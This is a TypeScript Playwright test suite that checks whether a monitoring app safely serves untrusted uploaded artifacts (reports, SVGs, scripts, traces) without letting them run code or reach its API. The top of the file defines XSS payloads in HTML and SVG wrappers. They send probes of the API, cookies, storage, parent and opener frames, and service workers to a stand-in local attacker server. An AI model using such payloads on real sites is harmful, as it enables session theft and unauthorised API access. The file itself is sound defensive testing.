// Files that hostile scripts leave, opened by someone who is signed in: they can neither call the API nor read the app.
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { checkTypes } from '@vedette/contracts'
import { type Browser, type BrowserContext, chromium, type Page, type Request } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { startTestApi, type TestApi } from '../testing/api.ts'
import { createArtifact, type SomeFile } from '../testing/artifacts.ts'
import { chromiumPath } from '../testing/chromium.ts'
import { recordTrace } from '../testing/record-trace.ts'
import { insertResults } from '../testing/results.ts'
import { giveTestPassword, testPassword } from '../testing/sign-in.ts'

/** Whatever of it succeeds is reported to the server of the attacker. */
const attack = (witness: string) => `(async () => {
  const send = (what) => { new Image().src = '${witness}/' + what; fetch('${witness}/' + what).catch(() => 0) }
  const attempt = async (name, action) => { try { send(name + '-' + await action()) } catch {} }
  send('ran')
  attempt('api', async () => (await fetch('/v1/checks')).status)
  attempt('cookie', () => document.cookie.length)
  attempt('storage', () => localStorage.length)
  attempt('parent', () => parent !== self && parent.document.title)
  attempt('opener', () => opener.document.title)
  attempt('worker', async () => (await navigator.serviceWorker.register('/trace-viewer/sw.bundle.js', { scope: '/' })).scope)
})()`

const htmlOf = (code: string) =>
  `<!doctype html><title>Report</title><h1>Report</h1><script>${code}</script><img src=x onerror="${code.replaceAll('"', '&quot;')}">
<iframe srcdoc="<script>top.ran = true</script>"></iframe><form action="/v1/sign-in" method=post><button>Go</button></form>
<a href="javascript:top.ran=true">Next</a>`
/** Also leads to the API at once. */
const reportOf = (code: string) => `<meta http-equiv=refresh content="0;url=/v1/checks">${htmlOf(code)}`
const svgOf = (code: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="top.ran = true"><title>Chart</title><script>${code.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;')}</script>
<rect width="40" height="40" fill="red"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="x"/></foreignObject></svg>`

let browser: Browser
let attacker: Server
let reports: string[] = []

beforeAll(async () => {
  attacker = createServer((request, response) => {
    if (request.url === '/page') {
      response.setHeader('content-type', 'text/html')
      const bait = '<img src=x onerror="top.ran = true">'
      const code = attack(witness())
      response.end(`${htmlOf(`${code};console.log(${JSON.stringify(bait)})`)}<button>Buy</button>`)
      return
    }
    reports.push(request.url ?? '')
    response.end()
  })
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve))
  browser = await chromium.launch({ executablePath: chromiumPath(), args: ['--no-sandbox'] })
}, 60_000)
afterAll(async () => {
  await browser?.close()
  attacker?.close()
})

function portOf(server: Server): number {
  const address = server.address()
  if (address === null || typeof address === 'string') throw new Error('The server does not listen')
  return address.port
}
const witness = () => `http://127.0.0.1:${portOf(attacker)}`

interface Stage {
  api: TestApi
  /** The app as a person opens it. */
  url: string
  context: BrowserContext
  page: Page
  resultPath: string
  /** By name of the file: its link, and the viewer of a trace. */
  links: Record<string, { url: string; viewerUrl?: string }>
}

async function freePort(): Promise<number> {
  const server = createServer()
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  await new Promise((resolve) => server.close(resolve))
  return port
}

async function openStage(settings: (port: number) => Record<string, string>): Promise<Stage> {
  const port = await freePort()
  const url = `http://localhost:${port}`
  const api = await startTestApi({ PORT: String(port), PUBLIC_URL: url, ...settings(port) })
  const { accountId } = api.alice
  const { body: check } = await api.alice.post('/v1/checks/browser', checkTypes.BROWSER.example)
  const checkId: string = check.id
  const scheduledAt = Date.now()
  const result = { accountId, checkId, checkType: 'BROWSER' as const, scheduledAt, detail: { observed: {} } }
  const [resultId = ''] = await insertResults(api.store, [result])
  const code = attack(witness())
  const trace = await recordTrace(browser, `${witness()}/page`, 'Buy')
  const files: SomeFile[] = [
    { type: 'report', name: 'report.html', contentType: 'text/html', content: reportOf(code) },
    { type: 'file', name: 'page.xhtml', contentType: 'application/xhtml+xml', content: svgOf(code) },
    { type: 'screenshot', name: 'chart.svg', contentType: 'image/svg+xml', content: svgOf(code) },
    { type: 'screenshot', name: 'fake.png', contentType: 'image/png', content: reportOf(code) },
    { type: 'file', name: 'evil.js', contentType: 'text/javascript', content: code },
    { type: 'trace', name: 'trace.zip', contentType: 'application/zip', content: trace },
  ]
  for (const file of files) await createArtifact(api, { accountId, checkId, resultId, scheduledAt }, file)
  const { body } = await api.alice.get(`/v1/check-results/${checkId}/${resultId}/assets`)
  const context = await browser.newContext({ acceptDownloads: true })
  const page = await context.newPage()
  await page.goto(`${url}/login`)
  await page.getByLabel('Email').fill(await giveTestPassword(api, api.alice.userId))
  await page.getByLabel('Password').fill(testPassword)
  await page.getByRole('button', { name: 'Sign in' }).click()
  await page.getByRole('heading', { name: 'Home' }).waitFor()
  // Recording the trace has run the attack, on the attacker's own host: it works.
  expect(reports).toContain('/ran')
  reports = []
  const links: Stage['links'] = {}
  for (const asset of body.assets)
    links[asset.name] = { ...asset, url: asset.url.startsWith('/') ? url + asset.url : asset.url }
  return { api, url, context, page, resultPath: `/checks/${checkId}/results/${resultId}`, links }
}

/** Requests to the API; the app itself is closed. */
async function watchApi({ context, page }: Stage): Promise<string[]> {
  await page.goto('about:blank')
  const calls: string[] = []
  context.on('request', (request) => {
    if (new URL(request.url()).pathname.startsWith('/v1')) calls.push(request.url())
  })
  return calls
}

/** As the app shows it. */
const picture = 'img[src*="chart.svg"]'
const shown = ['report.html', 'page.xhtml', 'chart.svg', 'fake.png']

describe('on the host of the app', () => {
  let stage: Stage
  beforeAll(async () => {
    stage = await openStage(() => ({}))
  }, 120_000)
  afterAll(async () => {
    await stage.context.close()
    await stage.api.close()
  })
  const linkOf = (name: string) => stage.links[name]?.url ?? ''

  it.each(['report.html', 'page.xhtml', 'chart.svg', 'evil.js'])('%s is saved, not shown', async (name) => {
    const page = await stage.context.newPage()
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.goto(linkOf(name)).catch(() => null),
    ])
    expect(download.suggestedFilename()).toBe(name)
    expect(page.url()).toBe('about:blank')
    await page.close()
  })

  it.each(shown)('%s does nothing even if a browser shows it', async (name) => {
    const page = await stage.context.newPage()
    const calls = await watchApi(stage)
    await page.route('**/assets/**', async (route) => {
      const response = await route.fetch()
      const { 'content-disposition': _, ...headers } = response.headers()
      await route.fulfill({ response, headers })
    })
    const response = await page.goto(linkOf(name))
    expect(response?.headers()['content-security-policy']).toMatch(/^sandbox; default-src 'none'/)
    await page.waitForLoadState('networkidle')
    expect(page.url()).toBe(linkOf(name))
    expect([reports, calls]).toEqual([[], []])
    await page.close()
  })

  it('pictures in the app run nothing', async () => {
    await stage.page.goto(stage.url + stage.resultPath)
    const shownPicture = stage.page.locator(picture)
    await shownPicture.waitFor()
    await shownPicture.scrollIntoViewIfNeeded()
    await vi.waitUntil(() => stage.page.evaluate(`document.querySelector('${picture}').naturalWidth > 0`), {
      timeout: 30_000,
    })
    expect(await stage.page.evaluate('window.ran')).toBeUndefined()
    expect(reports).toEqual([])
  })

  it('a script of a run is not a script of the app, nor a service worker', async () => {
    const { page } = stage
    await page.goto(`${stage.url}/checks`)
    await page.getByRole('heading', { name: 'Checks' }).waitFor()
    const link = linkOf('evil.js')
    const outcome = await page.evaluate(
      `new Promise((resolve) => {
        const script = document.createElement('script')
        script.src = ${JSON.stringify(link)}
        script.onload = () => resolve('loaded')
        script.onerror = () => resolve('refused')
        document.head.append(script)
      })`,
    )
    const worker = await page.evaluate(
      `navigator.serviceWorker.register(${JSON.stringify(link)}).then(() => 'registered', () => 'refused')`,
    )
    expect([outcome, worker, reports]).toEqual(['refused', 'refused', []])
  })

  it('a trace of a hostile page opens, and runs nothing', async () => {
    const page = await stage.context.newPage()
    const calls = await watchApi(stage)
    await page.goto(stage.links['trace.zip']?.viewerUrl ?? '')
    const actions = page.getByTestId('actions-tree')
    await actions.getByText('Click').waitFor({ timeout: 20_000 })
    await actions.getByText('Click').click()
    await page.getByText('After', { exact: true }).first().click()
    const snapshot = page.frameLocator('iframe.snapshot-visible[name=snapshot]')
    await snapshot.getByRole('heading', { name: 'Report' }).waitFor({ timeout: 20_000 })
    for (const tab of ['Console', 'Network', 'Source', 'Log'])
      await page.getByRole('tab', { name: tab }).click()
    expect(await page.evaluate('window.ran')).toBeUndefined()
    expect([reports, calls]).toEqual([[], []])
    // Even the viewer's own code can't reach the API.
    const refusal = await page.evaluate("fetch('/v1/checks').then(({ status }) => status, () => 'refused')")
    expect(refusal).toBe('refused')
    await page.close()
  })

  it('the service worker of the viewer controls nothing outside of its path', async () => {
    const { page } = stage
    await page.goto(`${stage.url}/trace-viewer/`)
    const scopes = await page.evaluate(
      'navigator.serviceWorker.ready.then(() => navigator.serviceWorker.getRegistrations()).then((all) => all.map(({ scope }) => scope))',
    )
    expect(scopes).toEqual([`${stage.url}/trace-viewer/`])
    const wider = await page.evaluate(
      "navigator.serviceWorker.register('/trace-viewer/sw.bundle.js', { scope: '/' }).then(() => 'registered', ({ name }) => name)",
    )
    expect(wider).toBe('SecurityError')
    for (const path of ['/', '/checks', stage.resultPath]) {
      await page.goto(stage.url + path)
      await page.getByRole('heading', { level: 1 }).waitFor()
      expect(await page.evaluate('navigator.serviceWorker.controller'), path).toBeNull()
    }
  })
})

describe('on a host of their own', () => {
  let stage: Stage
  let files: string
  beforeAll(async () => {
    stage = await openStage((port) => ({ ASSETS_URL: `http://files.localhost:${port}` }))
    files = stage.url.replace('localhost', 'files.localhost')
  }, 120_000)
  afterAll(async () => {
    await stage.context.close()
    await stage.api.close()
  })

  it('links and the viewer lead there, without the cookie', async () => {
    const page = await stage.context.newPage()
    const cookies: (string | undefined)[] = []
    const note = async (request: Request) => {
      if (!request.url().startsWith(files)) return
      // Null: the page was closed before the request was sent.
      const headers = await request.allHeaders().catch(() => null)
      if (headers !== null) cookies.push(headers.cookie)
    }
    stage.context.on('request', note)
    const { viewerUrl = '', url } = stage.links['trace.zip'] ?? {}
    expect([viewerUrl.startsWith(`${files}/trace-viewer/`), url?.startsWith(`${files}/assets/`)]).toEqual([
      true,
      true,
    ])
    await page.goto(viewerUrl)
    await page.getByTestId('actions-tree').getByText('Click').waitFor({ timeout: 20_000 })
    expect(cookies.length).toBeGreaterThan(2)
    expect(new Set(cookies)).toEqual(new Set([undefined]))
    expect(reports).toEqual([])
    stage.context.off('request', note)
    await page.close()
  })

  it('the app shows pictures from there', async () => {
    await stage.page.goto(stage.url + stage.resultPath)
    const shownPicture = stage.page.locator(picture)
    await shownPicture.scrollIntoViewIfNeeded()
    expect(await shownPicture.getAttribute('src')).toMatch(new RegExp(`^${files}/assets/`))
    await vi.waitUntil(() => stage.page.evaluate(`document.querySelector('${picture}').naturalWidth > 0`), {
      timeout: 30_000,
    })
  })

  it('it has neither the app nor the API, and the viewer of the app leads there', async () => {
    const page = await stage.context.newPage()
    for (const path of [
      '/',
      '/checks',
      '/v1/checks',
      '/v1/sign-in',
      '/app/build.json',
      '/s/acme',
      '/docs',
      '//v1/checks',
    ])
      expect((await page.goto(files + path))?.status(), path).toBe(404)
    const moved = await stage.context.request.get(`${stage.url}/trace-viewer/`, { maxRedirects: 0 })
    expect([moved.status(), moved.headers().location]).toEqual([302, `${files}/trace-viewer/`])
  })
})
